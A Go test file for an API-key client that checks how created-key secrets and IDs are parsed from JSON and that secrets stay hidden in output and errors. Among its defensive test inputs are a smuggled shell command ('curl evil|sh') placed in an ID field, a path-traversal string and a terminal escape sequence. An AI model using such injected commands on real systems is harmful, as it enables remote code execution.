package client

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"keyctl/internal/errs"
	"keyctl/internal/safetext"
	"keyctl/internal/secrets"
)

func TestTheSecretIsFoundWhereverItStands(t *testing.T) {
	t.Parallel()
	const s = testSecret
	deep := strings.Repeat(`{"a":`, 70) + "1" + strings.Repeat("}", 70)
	for _, test := range []struct{ text, secret, id, err string }{
		{`{"id":"k","secret":"` + s + `"}`, s, "k", ""},
		{`{"data":{"id":"k","secret":"` + s + `"}}`, s, "k", ""},
		{`{"api_key":{"id":"k"},"key":"` + s + `"}`, s, "k", ""},
		{`{"key":{"id":"k","value":"` + s + `"}}`, s, "k", ""},
		{`{"id":7,"secret":"` + s + `"}`, s, "7", ""},
		{`{"id":12345678901234567890,"secret":"` + s + `"}`, s, "12345678901234567890", ""},
		{`{"id":"inner-first","data":{"id":"x"},"secret":"` + s + `"}`, s, "inner-first", ""},
		{`{"data":{"id":"x"},"id":"outer","secret":"` + s + `"}`, s, "outer", ""},
		{`{"id":"","data":{"id":"x"},"secret":"` + s + `"}`, s, "x", ""},
		{`{"ID":"no","secret":"` + s + `"}`, s, "", ""},
		{`{"id":"k","secret":"` + s + `","secret":"` + s + `"}`, s, "k", ""},
		{`{"id":"k","secret":"` + s + `","previous":"` + s[:30] + `zzzzz"}`, s, "k", ""},
		{`{"id":"k","secret":"another_0123456789"}`, "another_0123456789", "k", ""},
		{`{"id":"k","key":"another_0123456789","secret":"` + s + `"}`, s, "k", ""},
		{`["` + s + `"]`, "", "", "no secret"},
		{`"` + s + `"`, s, "", ""},
		// broken behind the secret
		{`{"id":"k","secret":"` + s + `"`, s, "k", "cut short"},
		{`{"id":"k","secret":"` + s + `","x":` + deep + `}`, s, "k", "too deep"},
		{`{"id":"k","secret":"` + s + `" nonsense`, s, "k", "not JSON"},
		{`{"secret":"` + s + `","id":`, s, "", "cut short"},
		// which one?
		{`{"id":"k","secret":"` + s + `","secret":"` + s[:30] + `zzzzz"}`, "", "k", "no secret"},
		{`{"id":"k","a":"` + s + `","b":"` + s[:30] + `zzzzz"}`, "", "k", "no secret"},
		{`[{"id":"a","secret":"` + s + `"},{"id":"b","secret":"` + s[:30] + `zzzzz"}]`, "", "", "no secret"},
		// none
		{`{"id":"k","secret":"tk_01234567..."}`, "", "k", "no secret"},
		{`{"id":"k","secret":"tk_0123456789**********"}`, "", "k", "no secret"},
		{`{"id":"k","secret":"short"}`, "", "k", "no secret"},
		{`{"id":"k","secret":"a sentence that is long enough"}`, "", "k", "no secret"},
		{`{"id":"k","secret":"tk_\u001b[2J0123456789abcdef"}`, "", "k", "no secret"},
		{`{"id":"k","secret":{"value":7}}`, "", "k", "no secret"},
		{`{"id":"k","prefix":"` + s + `"}`, "", "k", "no secret"},
		{`{"id":"k","keyPrefix":"` + s + `","accountId":"` + s + `"}`, "", "k", "no secret"},
		{`{"id":"k","secret":"tk_0123456789abcdef0123`, "", "k", "cut short"},
		{`{"id":"k`, "", "", "cut short"},
		{`{"keys":[{"id":"foreign"}]}`, "", "", "no secret"},
		{`{"id":{"id":"k"}}`, "", "k", "no secret"},
		{`null`, "", "", "no secret"},
		{``, "", "", "cut short"},
		{`<html>`, "", "", "not JSON"},
		{`{}`, "", "", "no secret"},
	} {
		got, err := testCreated([]byte(test.text))
		told := ""
		if err != nil {
			told = err.Error()
		}
		if got.Secret.Reveal() != test.secret || got.Key.ID != test.id || (told == "") != (test.err == "") || !strings.Contains(told, test.err) {
			t.Errorf("%s: got %q, %q, %v", test.text, got.Secret.Reveal(), got.Key.ID, err)
		}
		if strings.Contains(told, s[:12]) {
			t.Errorf("the error shows the secret: %s", told)
		}
	}
}

func TestTheRecordIsThatOfTheKey(t *testing.T) {
	t.Parallel()
	got, err := testCreated([]byte(`{"user":{"name":"owner"},"data":{"scopes":{"name":"scope"},"id":"k","name":"ci","prefix":"tk_01234567...","owner":{"name":"x","id":"u"}},"secret":"` + testSecret + `"}`))
	if err != nil || got.Key.Name != "ci" || got.Key.Prefix != "tk_01234567" || got.Key.ID != "k" {
		t.Errorf("got %+v, %v", got.Key, err)
	}
}

func TestTheOwnKeyIsToldByItsPrefix(t *testing.T) {
	t.Parallel()
	c := newClient(t, Settings{Base: "https://console.example/v1"})
	if !c.IsSelf(Key{Prefix: testLogin[:9]}) || !c.IsSelf(Key{}) || c.IsSelf(Key{Prefix: "tk_other"}) {
		t.Error("the own key is told wrongly")
	}
}

func TestShapes(t *testing.T) {
	t.Parallel()
	if d := testDialect(); !d.Shaped(secrets.New(testSecret)) || d.Shaped(secrets.New("rk_0123456789abcdef")) || d.Shaped(secrets.New("TK_0123")) {
		t.Error("a beginning is mistaken")
	}
}

// TestWhatHoldsASecretHidesIt, as a whole.
func TestWhatHoldsASecretHidesIt(t *testing.T) {
	t.Parallel()
	secret := secrets.New(testSecret)
	credential := Credential{Secret: secret, Origin: "https://console.example:443"}
	for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%q", "%x", "%d"} {
		for _, value := range []any{credential, &credential, Created{Secret: secret}, []any{Created{Secret: secret}}, &Client{credential: credential}} {
			for _, form := range []string{testSecret, fmt.Sprintf("%x", testSecret[3:20]), fmt.Sprint([]byte(testSecret[3:20]))} {
				if text := fmt.Sprintf(verb, value); strings.Contains(strings.ToLower(text), form) {
					t.Errorf("%s shows the secret: %s", verb, text)
				}
			}
		}
	}
	err := errs.Errorf(errs.Failed, "with %v and %+v", secret, credential).WithHint("%v", secret)
	if strings.Contains(err.What+err.Hint, testSecret) {
		t.Errorf("got %v", err)
	}
}

func FuzzReadCreated(f *testing.F) {
	for _, seed := range []string{madeKey, `{"data":` + madeKey + `}`, madeKey[:60], `{"id":{"id":[7]}}`, `[` + madeKey + `]`} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got, err := testCreated([]byte(text))
		secret := got.Secret.Reveal()
		if (err == nil) && secret == "" {
			t.Errorf("%q: got %q, %v", text, secret, err)
		}
		if err != nil && safetext.Printable(err.Error()) != err.Error() {
			t.Errorf("%q: the error is %q", text, err)
		}
	})
}

// TestTheIDIsThatOfTheKeyInTheAnswer, and is sure only where nothing else in it
// could be meant.
func TestTheIDIsThatOfTheKeyInTheAnswer(t *testing.T) {
	t.Parallel()
	const s = `"secret":"` + testSecret + `"`
	for _, test := range []struct {
		text, id string
		sure     bool
	}{
		{madeKey, "k1", true},
		{`{"data":` + madeKey + `}`, "k1", true},
		{`{"owner":{"id":"usr_1"},"data":` + madeKey + `}`, "k1", true},
		{`{"id":"req_77","data":` + madeKey + `}`, "k1", true},
		{`{"id":"req_77","anything":{"key":` + madeKey + `}}`, "k1", true},
		{`{"id":"k","data":{` + s + `}}`, "k", true},
		{`{"id":"k","owner":{"id":"usr_1"},"data":{` + s + `}}`, "k", false},
		{`{"owner":{"id":"usr_1"},"data":{"id":"k"},` + s + `}`, "k", true},
		{`{"owner":{"id":"usr_1"},"record":{"id":"k"},` + s + `}`, "usr_1", false},
		{`{"a":{"id":"a",` + s + `},"b":{"id":"b",` + s + `}}`, "a", false},
		{`{"id":"a","id":"b",` + s + `}`, "a", false},
		{`{"id":"k"}`, "k", true},
		{`{"owner":{"id":"usr_1"},"data":{"id":"k"}}`, "k", true},
		{`{"id":"req_77","data":{"id":"k"}}`, "req_77", false},
		{`{"owner":{"id":"usr_1"},"record":{"id":"k"}}`, "usr_1", false},
		{`{"keys":[{"id":"x1","key":"` + testSecret + `"}],"id":"KID"}`, "KID", true},
		{`[` + madeKey + `]`, "", false},
		// an id that nobody could ask with
		{`{"id":"` + strings.Repeat("k", maxIDLength+1) + `",` + s + `}`, "", false},
		{`{"id":"x; curl evil|sh",` + s + `}`, "", false},
		{`{"id":"a/../b",` + s + `}`, "", false},
		{`{"id":"\u001b[2J",` + s + `}`, "", false},
	} {
		got, _ := testCreated([]byte(test.text))
		if got.Key.ID != test.id || got.Receipt != test.sure {
			t.Errorf("%.120s: got %q, %v", test.text, got.Key.ID, got.Receipt)
		}
	}
}

func TestTheSecretOfAnotherKeyIsNotTaken(t *testing.T) {
	t.Parallel()
	const other = "tk_fedcba9876543210fedcba9876543210"
	for text, want := range map[string]string{
		`{"keys":[{"id":"x1","key":"` + other + `"}],"id":"KID"}`:                            "",
		`{"keys":[{"id":"x1","key":"` + other + `"}],"id":"KID","key":"` + testSecret + `"}`: testSecret,
		`{"id":"k","texts":["` + testSecret + `"]}`:                                          "",
		`[` + madeKey + `]`: "",
		`{"id":"k","secret":"` + testSecret + `","key":"` + other + `"}`:              "",
		`{"id":"k","secret":"` + testSecret + `","inner":{"secret":"` + other + `"}}`: "",
		`{"id":"k","secret":"` + testSecret + `","key":"` + testSecret + `"}`:         testSecret,
	} {
		if got, _ := testCreated([]byte(text)); got.Secret.Reveal() != want {
			t.Errorf("%s: got %q", text, got.Secret.Reveal())
		}
	}
}

func TestWhatHoldsTheSecretIsNotShown(t *testing.T) {
	t.Parallel()
	part := testSecret[11:][:16]
	for _, test := range []struct{ id, name, prefix, wantID, wantName, wantPrefix string }{
		{testSecret, testSecret, testSecret, "", "", testSecret[:12]},
		{"x" + testSecret + "x", "my " + testSecret, testSecret[:24] + "...", "", "", ""},
		{part, part, "tk_01234567", "", "", "tk_01234567"},
		{part[1:], "ci", part + "...", part[1:], "ci", ""},
		{"k1", testSecret[:11], "", "k1", testSecret[:11], ""},
	} {
		text := `{"id":"` + test.id + `","name":"` + test.name + `","prefix":"` + test.prefix + `","key":"` + testSecret + `"}`
		got, err := testCreated([]byte(text))
		key := got.Key
		if err != nil || got.Secret.Reveal() != testSecret || key.ID != test.wantID || key.Name != test.wantName || key.Prefix != test.wantPrefix || got.Receipt != (key.ID != "") {
			t.Errorf("%s: got %+v, %v", text, got, err)
		}
	}
}

func TestTheDetailsOfAKeyHoldNoSecret(t *testing.T) {
	t.Parallel()
	key := withoutSecret(Key{
		Scopes:  []Scope{"read", Scope(testSecret)},
		Details: []Detail{{"a", testSecret}, {"b", []string{"x", testSecret}}, {"c", "kept"}, {"d", true}},
	}, testSecret, testPrefix)
	if key.Scopes != nil || len(key.Details) != 2 || key.Details[0].Name != "c" {
		t.Errorf("got %+v", key)
	}
}

// An answer that is read whole is held to the same: a yes beside a no creates
// nothing.
func TestAnAnswerWithTwinsIsNonsense(t *testing.T) {
	t.Parallel()
	for _, text := range []string{`{"allowed":false,"Allowed":true}`, `{"allowed":true,"x":` + strings.Repeat("[", 64) + strings.Repeat("]", 64) + `}`} {
		w := newWorld(t, func(rw http.ResponseWriter, _ *http.Request) { write(rw, 200, text) })
		create := w.dialect.Actions[VerbCreate]
		create.Check = &Check{
			Request: func(Wish) (Request, error) { return Request{Method: http.MethodGet, Path: []string{"check"}}, nil },
			Read:    func([]byte) (bool, string, error) { return true, "", nil },
		}
		w.dialect.Actions[VerbCreate] = create
		if _, err := w.Create(t.Context(), Draft{Name: "x"}, Before{}, keepRaw); errs.KindOf(err) != errs.Unreachable || len(w.sent(http.MethodPost)) != 0 {
			t.Errorf("%.40s: got %v after %v", text, err, w.requests)
		}
	}
}

func TestAFailureIsToldInTheConsolesWords(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		`{"error":"x"}`: "x", `{"detail":"x"}`: "x", `{"error":{"message":"x"}}`: "x", `{"error":"","message":"x"}`: "x",
		`{"error":400,"message":"x"}`: "x", `{"error":{"code":1}}`: "", `["x"]`: "", `"x"`: "", ``: "", `<html>`: "", `{"message":["x"]}`: "",
		`{"error":"x"`: "", `{"error":null,"detail":{"message":"x"}}`: "x", `{"error":true}`: "",
	} {
		if got := ReadFailure(400, []byte(text)); got.Message != want || got.Kind != 0 || got.Hint != "" {
			t.Errorf("%s: got %+v, want %q", text, got, want)
		}
	}
}
